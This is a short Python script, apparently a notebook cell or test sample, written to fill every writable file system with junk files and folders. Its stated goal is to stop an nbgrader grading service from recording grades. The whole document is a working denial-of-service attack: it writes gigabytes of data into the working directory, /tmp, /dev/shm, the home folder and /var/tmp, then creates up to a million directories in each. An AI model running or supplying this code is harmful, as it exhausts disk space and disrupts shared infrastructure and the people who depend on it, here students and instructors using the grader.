"""Fill every file system that can be written to, with data, with files and with folders.

Gain: a grader that can't record grades.
"""

HARMS = "fills the disk; nothing in nbgrader limits it"

# %%
import os
from pathlib import Path

block = b"x" * (1 << 20)
for place in (Path.cwd(), Path("/tmp"), Path("/dev/shm"), Path.home(), Path("/var/tmp")):
    try:
        for number in range(100_000):
            (place / f"@MARK@-{number}").write_bytes(block)
    except OSError as error:
        print(place, error)
    try:
        for number in range(1_000_000):
            os.mkdir(place / f"@MARK@-folder-{number}")
    except OSError as error:
        print(place, error)
